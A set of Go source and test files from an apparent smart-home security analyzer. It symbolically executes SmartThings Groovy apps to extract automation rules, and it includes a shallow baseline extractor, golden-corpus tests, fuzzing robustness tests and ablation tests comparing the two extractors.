		if c, ok := asConstraint(ex.eval(n.Cond, st)); ok {
			body := st.fork()
			body.assume(c)
			skip := st
			skip.assume(rule.Negate(c))
			return append(ex.execBlock(n.Body.Stmts, body), skip)
		}
		return append(ex.execBlock(n.Body.Stmts, st.fork()), st)
	case *groovy.Block:
		return ex.execBlock(n.Stmts, st)
	case *groovy.BreakStmt, *groovy.ContinueStmt:
		return []*state{st}
	case *groovy.MethodDecl:
		return []*state{st} // nested decl: nothing to execute
	}
	return []*state{st}
}

// execExprStmt handles statement-position expressions: sinks, user-method
// calls (inlined with full forking), scheduling APIs, and ignorable calls.
func (ex *executor) execExprStmt(e groovy.Expr, st *state) []*state {
	call, ok := e.(*groovy.Call)
	if !ok {
		ex.eval(e, st) // evaluate for completeness (may record warnings)
		return []*state{st}
	}
	return ex.execCall(call, st)
}

// execCall executes a call in statement position with path forking.
func (ex *executor) execCall(call *groovy.Call, st *state) []*state {
	// Scheduling APIs re-enter a scheduled method with a delay/period.
	if call.Receiver == nil && capability.SchedulingAPIs[call.Method] {
		return ex.execSchedulingCall(call, st)
	}
	// Sink APIs (messaging, HTTP, mode changes).
	if call.Receiver == nil && ex.isAPISink(call.Method) {
		ex.emitAPISink(call, st)
		// httpGet-style calls take a response closure: execute it.
		for _, a := range call.Args {
			if cl, ok := a.(*groovy.ClosureExpr); ok {
				return ex.execClosure(&closureVal{cl: cl, env: st.env}, []value{unknownVal{"http response"}}, st)
			}
		}
		return []*state{st}
	}
	// Device commands and device-collection iteration.
	if call.Receiver != nil {
		recv := ex.eval(call.Receiver, st)
		switch r := recv.(type) {
		case deviceVal:
			return ex.execDeviceCall(r, call, st)
		case locationVal:
			if call.Method == "setMode" {
				ex.emitLocationMode(call, st)
				return []*state{st}
			}
		case listVal, mapVal, unknownVal, stateVal:
			// Collection iteration with closures.
			if isIterMethod(call.Method) {
				return ex.execIterCall(recv, call, st)
			}
		case closureVal:
			if call.Method == "call" {
				return ex.execClosure(&r, nil, st)
			}
		}
		// Unknown receiver method: evaluate args for nested closures.
		for _, a := range call.Args {
			if cl, ok := a.(*groovy.ClosureExpr); ok {
				return ex.execClosure(&closureVal{cl: cl, env: st.env}, []value{unknownVal{"iter"}}, st)
			}
		}
		return []*state{st}
	}
	// setLocationMode("Night")
	if call.Method == "setLocationMode" {
		ex.emitLocationMode(call, st)
		return []*state{st}
	}
	// sendEvent / logging / UI — ignorable.
	if ignorableAPI(call.Method) {
		return []*state{st}
	}
	// User-defined method: inline with forking.
	if m := ex.script.Method(call.Method); m != nil {
		return ex.inlineMethod(m, call, st)
	}
	// Bare closure-taking call (e.g. a find with side effects).
	for _, a := range call.Args {
		if cl, ok := a.(*groovy.ClosureExpr); ok {
			return ex.execClosure(&closureVal{cl: cl, env: st.env}, []value{unknownVal{"iter"}}, st)
		}
	}
	ex.warnf("unmodeled API call %q", call.Method)
	return []*state{st}
}

// execSchedulingCall models runIn/runOnce/schedule/runEvery*.
func (ex *executor) execSchedulingCall(call *groovy.Call, st *state) []*state {
	var handler string
	delay := 0
	period := 0
	switch call.Method {
	case "runIn":
		if len(call.Args) < 2 {
			return []*state{st}
		}
		delay = -1 // symbolic unless a constant resolves
		if t, ok := asTerm(ex.eval(call.Args[0], st)); ok {
			if iv, ok := t.(rule.IntVal); ok {
				delay = int(iv)
			}
		}
		handler = handlerName(call.Args[1])
	case "runOnce", "schedule":
		if len(call.Args) < 2 {
			return []*state{st}
		}
		handler = handlerName(call.Args[1])
		if call.Method == "schedule" {
			period = 86400
		}
	default: // runEvery*
		if len(call.Args) < 1 {
			return []*state{st}
		}
		handler = handlerName(call.Args[0])
		period = periodOf(call.Method)
	}
	m := ex.script.Method(handler)
	if m == nil {
		ex.warnf("scheduled handler %q not found", handler)
		return []*state{st}
	}
	if st.depth >= ex.lim.MaxCallDepth {
		return []*state{st}
	}
	// Trace into the scheduled method: successive sinks inherit the delay.
	sub := st.fork()
	sub.depth++
	if delay > 0 && sub.when >= 0 {
		sub.when += delay
	} else if delay < 0 {
		sub.when = -1
	}
	if period > 0 {
		sub.period = period
	}
	sub.env = newScope(nil)
	outs := ex.execBlock(m.Body.Stmts, sub)
	// The caller's own path continues unaffected (scheduling is async);
	// returned states carry any constraints found inside for path counting
	// but the caller state proceeds.
	_ = outs
	return []*state{st}
}

// execDeviceCall handles method calls on device references: capability
// commands become sinks; attribute-ish methods are handled in eval.
func (ex *executor) execDeviceCall(dev deviceVal, call *groovy.Call, st *state) []*state {
	if isIterMethod(call.Method) {
		// devices.each { d -> ... } — bind the closure parameter to the
		// same (collection) device.
		if len(call.Args) == 1 {
			if cl, ok := call.Args[0].(*groovy.ClosureExpr); ok {
				return ex.execClosure(&closureVal{cl: cl, env: st.env}, []value{dev}, st)
			}
		}
		return []*state{st}
	}
	if cmdRef := resolveCommand(dev.in.Capability, call.Method); cmdRef != nil {
		ex.emitDeviceSink(dev, cmdRef, call, st)
		return []*state{st}
	}
	// Not a command (e.g. currentValue in statement position): evaluate.
	ex.evalCall(call, st)
	return []*state{st}
}

// resolveCommand finds the command definition: first within the granted
// capability, then anywhere in the registry (devices usually support more
// capabilities than the one they were granted through).
func resolveCommand(capName, cmd string) *capability.CommandRef {
	if c, ok := capability.Get(capName); ok {
		if k := c.Cmd(cmd); k != nil {
			return &capability.CommandRef{Capability: c, Command: k}
		}
	}
	refs := capability.CommandsNamed(cmd)
	if len(refs) > 0 {
		return &refs[0]
	}
	return nil
}

// inlineMethod executes a user-defined method body with full forking.
func (ex *executor) inlineMethod(m *groovy.MethodDecl, call *groovy.Call, st *state) []*state {
	if st.depth >= ex.lim.MaxCallDepth {
		ex.warnf("call depth limit at %q", m.Name)
		return []*state{st}
	}
	callerEnv := st.env
	st.depth++
	st.env = newScope(nil)
	for i, p := range m.Params {
		var v value = unknownVal{"arg"}
		if i < len(call.Args) {
			v = ex.evalIn(call.Args[i], callerEnv, st)
		} else if p.Default != nil {
			v = ex.evalIn(p.Default, callerEnv, st)
		}
		st.env.define(p.Name, v)
	}
	outs := ex.execBlock(m.Body.Stmts, st)
	for _, o := range outs {
		o.ret = false // return ends the method, not the handler
		o.depth--
		o.env = callerEnv
	}
	return outs
}

// execClosure executes a closure body binding its parameters.
func (ex *executor) execClosure(cv *closureVal, args []value, st *state) []*state {
	env := cv.env
	if env == nil {
		env = st.env
	}
	inner := newScope(env)
	if len(cv.cl.Params) == 0 {
		if len(args) > 0 {
			inner.define("it", args[0])
		}
	} else {
		for i, p := range cv.cl.Params {
			if i < len(args) {
				inner.define(p.Name, args[i])
			} else {
				inner.define(p.Name, unknownVal{"closure arg"})
			}
		}
	}
	saved := st.env
	st.env = inner
	outs := ex.execBlock(cv.cl.Body.Stmts, st)
	for _, o := range outs {
		o.env = saved
		o.ret = false
	}
	return outs
}

// execIterCall runs collection iteration (each/find/findAll/collect/any/
// every) over a symbolic collection: the closure body executes once with a
// symbolic element.
func (ex *executor) execIterCall(recv value, call *groovy.Call, st *state) []*state {
	var elem value = unknownVal{"element"}
	if l, ok := recv.(listVal); ok && len(l.elems) > 0 {
		elem = l.elems[0]
	}
	for _, a := range call.Args {
		if cl, ok := a.(*groovy.ClosureExpr); ok {
			return ex.execClosure(&closureVal{cl: cl, env: st.env}, []value{elem}, st)
		}
	}
	return []*state{st}
}

func isIterMethod(m string) bool {
	switch m {
	case "each", "eachWithIndex", "find", "findAll", "collect", "any",
		"every", "sort", "findResult":
		return true
	}
	return false
}

func ignorableAPI(m string) bool {
	switch m {
	case "log", "debug", "trace", "info", "warn", "error",
		"sendEvent", "createEvent",
		"unsubscribe", "unschedule", "pause",
		"getChildDevices", "refresh", "poll", "ping",
		"section", "paragraph", "href", "label", "mode", "page",
		"dynamicPage", "preferences", "definition", "input",
		"metadata", "simulator", "tiles", "subscribeToCommand",
		"updateSetting", "addChildDevice":
		return true
	}
	return false
}

// execDecl handles `def x = expr`, including ternary forking.
func (ex *executor) execDecl(n *groovy.DeclStmt, st *state) []*state {
	if n.Init == nil {
		st.env.define(n.Name, unknownVal{"uninitialised"})
		return []*state{st}
	}
	if tern, ok := n.Init.(*groovy.Ternary); ok {
		return ex.forkTernary(tern, st, func(s *state, v value) {
			s.env.define(n.Name, v)
			if t, ok := asTerm(v); ok {
				s.data = append(s.data, rule.DataConstraint{Var: n.Name, Term: t})
			}
		})
	}
	v := ex.eval(n.Init, st)
	if t, ok := asTerm(v); ok {
		st.data = append(st.data, rule.DataConstraint{Var: n.Name, Term: t})
	}
	st.env.define(n.Name, v)
	return []*state{st}
}

// execAssign handles assignments and op-assignments.
func (ex *executor) execAssign(n *groovy.AssignStmt, st *state) []*state {
	if tern, ok := n.Value.(*groovy.Ternary); ok && n.Op == groovy.Assign {
		return ex.forkTernary(tern, st, func(s *state, v value) {
			ex.assignTo(n.Target, v, s)
		})
	}
	var v value
	if n.Op == groovy.Assign {
		v = ex.eval(n.Value, st)
	} else {
		// x op= v  →  x = x op v
		op := map[groovy.Kind]groovy.Kind{
			groovy.PlusAssign:  groovy.Plus,
			groovy.MinusAssign: groovy.Minus,
			groovy.StarAssign:  groovy.Star,
			groovy.SlashAssign: groovy.Slash,
		}[n.Op]
		v = ex.evalBinary(op, ex.eval(n.Target, st), ex.eval(n.Value, st))
	}
	ex.assignTo(n.Target, v, st)
	return []*state{st}
}

func (ex *executor) assignTo(target groovy.Expr, v value, st *state) {
	switch t := target.(type) {
	case *groovy.Ident:
		if tm, ok := asTerm(v); ok {
			st.data = append(st.data, rule.DataConstraint{Var: t.Name, Term: tm})
		}
		st.env.set(t.Name, v)
	case *groovy.PropertyGet:
		// state.x = v — track within this execution.
		if recv := ex.eval(t.Receiver, st); recv != nil {
			if _, isState := recv.(stateVal); isState {
				st.env.set("state."+t.Name, v)
				return
			}
		}
	case *groovy.IndexGet:
		// m["k"] = v — untracked.
	}
}

// forkTernary evaluates cond ? a : b by forking the path.
func (ex *executor) forkTernary(t *groovy.Ternary, st *state, apply func(*state, value)) []*state {
	c, ok := asConstraint(ex.eval(t.Cond, st))
	thenSt := st.fork()
	elseSt := st
	if ok {
		thenSt.assume(c)
		elseSt.assume(rule.Negate(c))
	}
	apply(thenSt, ex.eval(t.Then, thenSt))
	apply(elseSt, ex.eval(t.Else, elseSt))
	return []*state{thenSt, elseSt}
}

// execIf forks on the condition.
func (ex *executor) execIf(n *groovy.IfStmt, st *state) []*state {
	cond := ex.eval(n.Cond, st)
	c, ok := asConstraint(cond)
	thenSt := st.fork()
	elseSt := st
	if ok {
		thenSt.assume(c)
		elseSt.assume(rule.Negate(c))
	} else {
		ex.warnf("untracked branch condition; exploring both branches")
	}
	out := ex.execBlock(n.Then.Stmts, thenSt)
	if n.Else != nil {
		out = append(out, ex.execStmt(n.Else, elseSt)...)
	} else {
		out = append(out, elseSt)
	}
	return out
}

// execSwitch forks per case arm (Groovy fallthrough is not modeled: the
// SmartThings review guidelines require a terminated case per GString
// value, and corpus apps follow it).
func (ex *executor) execSwitch(n *groovy.SwitchStmt, st *state) []*state {
	subj := ex.eval(n.Subject, st)
	subjTerm, hasTerm := asTerm(subj)
	var out []*state
	var negations []rule.Constraint
	for _, cs := range n.Cases {
		arm := st.fork()
		if hasTerm {
			if caseTerm, ok := asTerm(ex.eval(cs.Value, arm)); ok {
				eq := rule.Cmp{Op: rule.OpEq, L: subjTerm, R: caseTerm}
				arm.assume(eq)
				negations = append(negations, rule.Negate(eq))
			}
		}
		out = append(out, ex.execBlock(cs.Body.Stmts, arm)...)
	}
	dflt := st
	for _, neg := range negations {
		dflt.assume(neg)
	}
	if n.Default != nil {
		out = append(out, ex.execBlock(n.Default.Stmts, dflt)...)
	} else {
		out = append(out, dflt)
	}
	return out
}

// execLoop executes for-in / C-style loops with single-iteration
// abstraction.
func (ex *executor) execLoop(varName string, iterable groovy.Expr, body *groovy.Block, st *state) []*state {
	if iterable != nil {
		it := ex.eval(iterable, st)
		var elem value = unknownVal{"element"}
		switch l := it.(type) {
		case listVal:
			if len(l.elems) > 0 {
				elem = l.elems[0]
			}
		case deviceVal:
			elem = l
		}
		inner := st.fork()
		inner.env = newScope(st.env)
		inner.env.define(varName, elem)
		outs := ex.execBlock(body.Stmts, inner)
		for _, o := range outs {
			o.env = st.env
		}
		return append(outs, st)
	}
	return append(ex.execBlock(body.Stmts, st.fork()), st)
}

// ---------- sink emission ----------

// emitDeviceSink records a rule for a capability command.
func (ex *executor) emitDeviceSink(dev deviceVal, ref *capability.CommandRef, call *groovy.Call, st *state) {
	act := rule.Action{
		Subject:    dev.in.Name,
		Capability: ref.Capability.Name,
		Command:    ref.Command.Name,
		When:       maxInt(st.when, 0),
		Period:     st.period,
	}
	if st.when < 0 {
		act.When = -1 // symbolic delay
	}
	for i, a := range call.Args {
		v := ex.eval(a, st)
		if t, ok := asTerm(v); ok {
			act.Params = append(act.Params, t)
			if _, isConst := t.(rule.Var); isConst {
				act.Data = append(act.Data, rule.Cmp{
					Op: rule.OpEq,
					L:  rule.Var{Name: paramVar(dev.in.Name, ref.Command.Name, i), Kind: rule.VarLocal, Type: rule.TypeInt},
					R:  t,
				})
			}
		} else {
			act.Params = append(act.Params, rule.StrVal("?"))
		}
	}
	ex.emitRule(act, st)
}

func paramVar(dev, cmd string, i int) string {
	return dev + "." + cmd + ".arg" + string(rune('0'+i))
}

// emitLocationMode records a setLocationMode/location.setMode sink.
func (ex *executor) emitLocationMode(call *groovy.Call, st *state) {
	act := rule.Action{
		Subject: "location",
		Command: "setLocationMode",
		When:    maxInt(st.when, 0),
		Period:  st.period,
	}
	if len(call.Args) > 0 {
		if t, ok := asTerm(ex.eval(call.Args[0], st)); ok {
			act.Params = append(act.Params, t)
		}
	}
	ex.emitRule(act, st)
}

// isAPISink reports whether the bare API is a non-scheduling sink.
func (ex *executor) isAPISink(name string) bool {
	if capability.SchedulingAPIs[name] {
		return false
	}
	return capability.IsSinkAPI(name) || capability.MessagingSinks[name]
}

// emitAPISink records messaging/HTTP/hub-command sinks.
func (ex *executor) emitAPISink(call *groovy.Call, st *state) {
	act := rule.Action{
		Subject: call.Method,
		Command: call.Method,
		When:    maxInt(st.when, 0),
		Period:  st.period,
	}
	for _, a := range call.Args {
		if t, ok := asTerm(ex.eval(a, st)); ok {
			act.Params = append(act.Params, t)
		}
	}
	ex.emitRule(act, st)
}

// emitRule snapshots the current path into a rule, splitting event-value
// comparisons out of the path condition into the trigger constraint.
func (ex *executor) emitRule(act rule.Action, st *state) {
	tr := st.trigger
	evVar := tr.EventVar()
	var trigCs []rule.Constraint
	if tr.Constraint != nil {
		trigCs = append(trigCs, tr.Constraint)
	}
	var condCs []rule.Constraint
	for _, p := range st.preds {
		for _, conj := range splitConj(p) {
			vars := rule.Vars(conj)
			if len(vars) >= 1 && onlyEventVar(conj, evVar) {
				trigCs = append(trigCs, conj)
			} else {
				condCs = append(condCs, conj)
			}
		}
	}
	tr.Constraint = nil
	if len(trigCs) > 0 {
		tr.Constraint = rule.Conj(dedupConstraints(trigCs)...)
	}
	r := &rule.Rule{
		App:     ex.app.Name,
		Trigger: tr,
		Condition: rule.Condition{
			Data:       append([]rule.DataConstraint(nil), st.data...),
			Predicates: dedupConstraints(condCs),
		},
		Action: act,
	}
	ex.rules = append(ex.rules, r)
}

// splitConj flattens a top-level conjunction into its conjuncts.
func splitConj(c rule.Constraint) []rule.Constraint {
	if and, ok := c.(rule.And); ok {
		var out []rule.Constraint
		for _, sub := range and.Cs {
			out = append(out, splitConj(sub)...)
		}
		return out
	}
	return []rule.Constraint{c}
}

// onlyEventVar reports whether c compares the triggering event's value
// (the paper: "the comparison in terms of the event's value is regarded as
// part of the trigger constraint"). Comparisons of the event value against
// user inputs or constants qualify; constraints not mentioning the event
// variable do not.
func onlyEventVar(c rule.Constraint, evVar string) bool {
	vars := rule.VarSet(c)
	for _, v := range vars {
		if v.Kind == rule.VarEvent && v.Name == evVar {
			return true
		}
	}
	return false
}

func dedupConstraints(cs []rule.Constraint) []rule.Constraint {
	var out []rule.Constraint
	seen := map[string]bool{}
	for _, c := range cs {
		k := c.String()
		if !seen[k] {
			seen[k] = true
			out = append(out, c)
		}
	}
	return out
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}
