package symexec_test

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/symexec"
)

var updateGolden = flag.Bool("update-golden", false, "rewrite testdata/extract_golden.txt from the current extractor output")

// extractionTranscript renders everything the extraction rewrite must
// preserve byte for byte, for the full corpus (benign, demo, notification,
// web-service and malicious apps): app metadata, every input declaration,
// every extracted rule in emission order (rule IDs are assigned by that
// order, so detection PairKeys depend on it), the explored path count and
// the deduplicated warnings.
func extractionTranscript(t *testing.T) string {
	t.Helper()
	var b strings.Builder
	for _, a := range corpus.All() {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("extract %s: %v", a.Name, err)
		}
		fmt.Fprintf(&b, "== %s (app %q ns %q cat %q)\n", a.Name, res.App.Name, res.App.Namespace, res.App.Category)
		for i := range res.App.Inputs {
			in := &res.App.Inputs[i]
			def := ""
			if in.Default != nil {
				def = " default=" + in.Default.String()
			}
			fmt.Fprintf(&b, "input %s type=%q cap=%q multiple=%v required=%v title=%q options=%v%s\n",
				in.Name, in.Type, in.Capability, in.Multiple, in.Required, in.Title, in.Options, def)
		}
		for _, r := range res.Rules.Rules {
			fmt.Fprintf(&b, "rule %s\n", r)
		}
		fmt.Fprintf(&b, "paths %d\n", res.Paths)
		for _, w := range res.Warnings {
			fmt.Fprintf(&b, "warning %s\n", w)
		}
	}
	return b.String()
}

// TestGoldenExtractionCorpus pins the extractor's observable output over
// the whole corpus: extracted rules, input declarations and path counts
// must be byte-identical across rewrites of the groovy front end and the
// symbolic executor. Regenerate with:
//
//	go test ./internal/symexec -run Golden -update-golden
func TestGoldenExtractionCorpus(t *testing.T) {
	got := extractionTranscript(t)
	path := filepath.Join("testdata", "extract_golden.txt")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("golden rewritten: %d bytes", len(got))
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (regenerate with -update-golden): %v", err)
	}
	if got != string(want) {
		gotLines := strings.Split(got, "\n")
		wantLines := strings.Split(string(want), "\n")
		n := min(len(gotLines), len(wantLines))
		for i := 0; i < n; i++ {
			if gotLines[i] != wantLines[i] {
				t.Fatalf("golden mismatch at line %d:\n  got:  %s\n  want: %s", i+1, gotLines[i], wantLines[i])
			}
		}
		t.Fatalf("golden length mismatch: got %d lines, want %d", len(gotLines), len(wantLines))
	}
}
