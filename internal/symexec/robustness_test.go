package symexec

import (
	"math/rand"
	"strings"
	"testing"

	"homeguard/internal/groovy"
)

// TestExtractNeverPanicsOnMutations: any source that parses must extract
// without panicking (custom user apps go through this path online).
func TestExtractNeverPanicsOnMutations(t *testing.T) {
	rng := rand.New(rand.NewSource(99))
	base := []byte(comfortTV)
	alphabet := []byte("{}()[]\"'.,;: \nabcdef0123456789=<>!&|?-+*/")
	parsed := 0
	for trial := 0; trial < 2000; trial++ {
		src := append([]byte(nil), base...)
		for k := 0; k < 1+rng.Intn(5); k++ {
			switch rng.Intn(3) {
			case 0:
				src[rng.Intn(len(src))] = alphabet[rng.Intn(len(alphabet))]
			case 1:
				i := rng.Intn(len(src))
				src = append(src[:i], src[i+1:]...)
			case 2:
				i := rng.Intn(len(src))
				src = append(src[:i], append([]byte{alphabet[rng.Intn(len(alphabet))]}, src[i:]...)...)
			}
		}
		text := string(src)
		if _, err := groovy.Parse(text); err != nil {
			continue
		}
		parsed++
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("panic during extraction: %v\nsource:\n%s", r, text)
				}
			}()
			_, _ = Extract(text, "")
		}()
	}
	if parsed < 50 {
		t.Logf("note: only %d mutants parsed (mutations are harsh)", parsed)
	}
}

// TestPathLimitRespected: a pathological app with many sequential branches
// must stay within the exploration budget rather than exploding.
func TestPathLimitRespected(t *testing.T) {
	var sb strings.Builder
	sb.WriteString(`
input "d", "capability.switch"
input "s", "capability.motionSensor"
def installed() { subscribe(s, "motion", h) }
def h(evt) {
`)
	// 2^24 syntactic paths without a limit.
	for i := 0; i < 24; i++ {
		sb.WriteString("    if (d.currentSwitch == \"on\") { d.off() } else { d.on() }\n")
	}
	sb.WriteString("}\n")
	res, err := ExtractScript(groovy.MustParse(sb.String()), "Pathological", Limits{MaxPaths: 512})
	if err != nil {
		t.Fatal(err)
	}
	if res.Paths > 512 {
		t.Errorf("paths = %d exceeds the limit", res.Paths)
	}
	warned := false
	for _, w := range res.Warnings {
		if strings.Contains(w, "path limit") {
			warned = true
		}
	}
	if !warned {
		t.Error("expected a path-limit warning")
	}
}

// TestRecursionBounded: mutually recursive helper methods terminate via
// the call-depth limit.
func TestRecursionBounded(t *testing.T) {
	src := `
input "d", "capability.switch"
input "s", "capability.motionSensor"
def installed() { subscribe(s, "motion.active", h) }
def h(evt) { a() }
def a() { b() }
def b() { a()
    d.on()
}
`
	res, err := Extract(src, "Recursive")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rules.Rules) == 0 {
		t.Error("sink below the recursion should still be found")
	}
}

func BenchmarkExtractComfortTV(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := Extract(comfortTV, ""); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkShallowExtract(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := ShallowExtract(comfortTV, ""); err != nil {
			b.Fatal(err)
		}
	}
}
