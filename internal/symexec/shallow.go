package symexec

import (
	"strings"

	"homeguard/internal/groovy"
	"homeguard/internal/rule"
)

// ShallowExtract is the SmartAuth-style baseline extractor (Sec. V-B "Why
// did prior approaches fail?"): it greps the AST for subscriptions and
// sinks without tracking data flow or path conditions. It finds the same
// trigger/action skeletons as the symbolic executor but loses the
// constraint information introduced by variable assignments and nested
// branches — the ablation tests demonstrate the precision gap.
func ShallowExtract(src, appName string) (*Result, error) {
	script, err := groovy.Parse(src)
	if err != nil {
		return nil, err
	}
	// The shared construction path applies the same limit defaults the
	// full extractor gets; the two modes cannot drift apart.
	ex := newExecutor(script, Limits{})
	ex.scanPreferences()
	if appName != "" {
		ex.app.Name = appName
	}
	if ex.app.Name == "" {
		ex.app.Name = "app"
	}

	// Subscriptions → triggers (same discovery logic as the full
	// extractor; this part SmartAuth also gets right).
	triggers := ex.collectTriggers()

	var rules []*rule.Rule
	for _, tr := range triggers {
		h := script.Method(tr.handler)
		if h == nil {
			continue
		}
		// Grep the handler (and everything it can syntactically reach)
		// for sinks, ignoring conditions and assignments.
		seen := map[string]bool{}
		var visit func(m *groovy.MethodDecl, depth int)
		visit = func(m *groovy.MethodDecl, depth int) {
			if depth > 8 || seen[m.Name] {
				return
			}
			seen[m.Name] = true
			groovy.Inspect(m.Body, func(n groovy.Node) bool {
				call, ok := n.(*groovy.Call)
				if !ok {
					return true
				}
				if call.Receiver == nil {
					if m2 := script.Method(call.Method); m2 != nil {
						visit(m2, depth+1)
						return true
					}
					// Follow scheduled-handler references (runIn etc.),
					// losing the delay information.
					for _, a := range call.Args {
						if h := handlerName(a); h != "" {
							if m2 := script.Method(h); m2 != nil {
								visit(m2, depth+1)
							}
						}
					}
					if call.Method == "setLocationMode" {
						rules = append(rules, &rule.Rule{
							App:     ex.app.Name,
							Trigger: tr.trigger,
							Action:  rule.Action{Subject: "location", Command: "setLocationMode"},
						})
					}
					return true
				}
				recvName := ""
				if id, ok := call.Receiver.(*groovy.Ident); ok {
					recvName = id.Name
				}
				in := ex.inputs[recvName]
				if in == nil || !in.IsDevice() {
					return true
				}
				if strings.HasPrefix(call.Method, "current") ||
					call.Method == "currentValue" || call.Method == "latestValue" {
					return true
				}
				if ref := ex.resolveCommand(in.Capability, call.Method); ref != nil {
					rules = append(rules, &rule.Rule{
						App:     ex.app.Name,
						Trigger: tr.trigger,
						Action: rule.Action{
							Subject:    in.Name,
							Capability: ref.Capability.Name,
							Command:    ref.Command.Name,
						},
					})
				}
				return true
			})
		}
		visit(h, 0)
	}
	rs := &rule.RuleSet{App: ex.app.Name, Rules: rules}
	rs.NumberRules()
	return &Result{App: ex.app, Rules: rs}, nil
}
