package symexec

import (
	"strings"
	"testing"

	"homeguard/internal/rule"
)

// TestShallowLosesConstraints demonstrates the paper's argument for
// symbolic execution: the AST-grep baseline finds the same sinks but
// cannot retrieve the constraint information from variable assignments
// and nested branches (Sec. V-B).
func TestShallowLosesConstraints(t *testing.T) {
	full, err := Extract(comfortTV, "")
	if err != nil {
		t.Fatal(err)
	}
	shallow, err := ShallowExtract(comfortTV, "")
	if err != nil {
		t.Fatal(err)
	}
	if len(shallow.Rules.Rules) == 0 {
		t.Fatal("shallow extractor should still find the window1.on sink")
	}
	fullRule := full.Rules.Rules[0]
	shRule := shallow.Rules.Rules[0]

	// Both agree on the skeleton.
	if shRule.Action.Subject != fullRule.Action.Subject ||
		shRule.Action.Command != fullRule.Action.Command {
		t.Errorf("skeleton mismatch: %v vs %v", shRule.Action, fullRule.Action)
	}
	// The full extractor recovers the temperature constraint...
	fullCond := fullRule.Condition.Formula().String()
	if !strings.Contains(fullCond, "tSensor.temperature > threshold1") {
		t.Fatalf("full condition lost: %s", fullCond)
	}
	// ...the shallow one has no condition at all.
	if !shRule.Condition.Always() {
		t.Errorf("shallow rule unexpectedly has conditions: %v", shRule.Condition)
	}
	if shRule.Trigger.Constraint != nil &&
		strings.Contains(shRule.Trigger.Constraint.String(), "threshold1") {
		t.Error("shallow extractor should not recover user-input comparisons")
	}
}

// TestShallowOverApproximatesBranches: an app whose two branches drive
// opposite commands looks self-contradictory under the shallow extractor
// (both sinks share one unconstrained rule pair), while the symbolic
// extractor separates the branches with complementary constraints.
func TestShallowOverApproximatesBranches(t *testing.T) {
	src := `
input "sensor1", "capability.temperatureMeasurement"
input "heater1", "capability.switch"
input "setpoint", "number"
def installed() { subscribe(sensor1, "temperature", check) }
def check(evt) {
    if (evt.doubleValue < setpoint) {
        heater1.on()
    } else {
        heater1.off()
    }
}
`
	full, err := Extract(src, "Thermo")
	if err != nil {
		t.Fatal(err)
	}
	shallow, err := ShallowExtract(src, "Thermo")
	if err != nil {
		t.Fatal(err)
	}
	if len(full.Rules.Rules) != 2 || len(shallow.Rules.Rules) != 2 {
		t.Fatalf("rules: full=%d shallow=%d", len(full.Rules.Rules), len(shallow.Rules.Rules))
	}
	// Full: the two rules carry complementary trigger constraints; their
	// conjunction is unsatisfiable.
	c1 := full.Rules.Rules[0].Trigger.Constraint
	c2 := full.Rules.Rules[1].Trigger.Constraint
	if c1 == nil || c2 == nil {
		t.Fatal("full extractor lost branch constraints")
	}
	// Shallow: both rules are unconstrained — indistinguishable
	// situations, so a detector built on it would flag a false self-race.
	for _, r := range shallow.Rules.Rules {
		if r.Trigger.Constraint != nil {
			t.Errorf("shallow rule carries a constraint: %v", r.Trigger.Constraint)
		}
	}
}

// TestShallowStillFindsDelayedSinks: sinks reached through helper methods
// are found by both (the grep descends), but the runIn delay is lost.
func TestShallowLosesDelays(t *testing.T) {
	src := `
input "lamp1", "capability.switch"
def installed() { subscribe(lamp1, "switch.on", onLamp) }
def onLamp(evt) {
    runIn(300, lampOff)
}
def lampOff() {
    lamp1.off()
}
`
	full, err := Extract(src, "NightCareLike")
	if err != nil {
		t.Fatal(err)
	}
	if full.Rules.Rules[0].Action.When != 300 {
		t.Fatalf("full extractor should model the delay, got %d", full.Rules.Rules[0].Action.When)
	}
	shallow, err := ShallowExtract(src, "NightCareLike")
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range shallow.Rules.Rules {
		if r.Action.Command == "off" {
			found = true
			if r.Action.When != 0 {
				t.Errorf("shallow extractor should not model delays, got %d", r.Action.When)
			}
		}
	}
	if !found {
		t.Error("shallow extractor should still reach the lampOff sink")
	}
}

func TestShallowRuleSetSerializes(t *testing.T) {
	shallow, err := ShallowExtract(comfortTV, "")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := rule.MarshalRuleSet(shallow.Rules); err != nil {
		t.Fatal(err)
	}
}
