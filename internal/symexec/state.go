package symexec

import (
	"homeguard/internal/groovy"
	"homeguard/internal/rule"
)

// value is a symbolic value flowing through the interpreter.
type value interface{ isValue() }

// termVal wraps a solver-tracked term (variable or constant).
type termVal struct{ t rule.Term }

// boolVal is a boolean-valued expression represented as a formula.
type boolVal struct{ c rule.Constraint }

// deviceVal is a device reference (or device collection) granted via input.
type deviceVal struct{ in *InputDecl }

// eventVal is the event object passed to a handler.
type eventVal struct{}

// devStateVal is the object returned by device.currentState("attr"): its
// .value property reads the attribute.
type devStateVal struct {
	dev  string
	attr string
	typ  rule.ValueType
}

// listVal is a (partially) known list.
type listVal struct{ elems []value }

// mapVal is a (partially) known map.
type mapVal struct{ entries map[string]value }

// closureVal is a closure literal with its defining scope.
type closureVal struct {
	cl  *groovy.ClosureExpr
	env *scope
}

// locationVal is the `location` object.
type locationVal struct{}

// stateVal is the `state` / `atomicState` object (cross-execution storage,
// treated as symbolic input on first read).
type stateVal struct{ atomic bool }

// unknownVal is a value the executor cannot track; operations on it
// degrade gracefully.
type unknownVal struct{ why string }

func (termVal) isValue()     {}
func (boolVal) isValue()     {}
func (deviceVal) isValue()   {}
func (eventVal) isValue()    {}
func (devStateVal) isValue() {}
func (listVal) isValue()     {}
func (mapVal) isValue()      {}
func (closureVal) isValue()  {}
func (locationVal) isValue() {}
func (stateVal) isValue()    {}
func (unknownVal) isValue()  {}

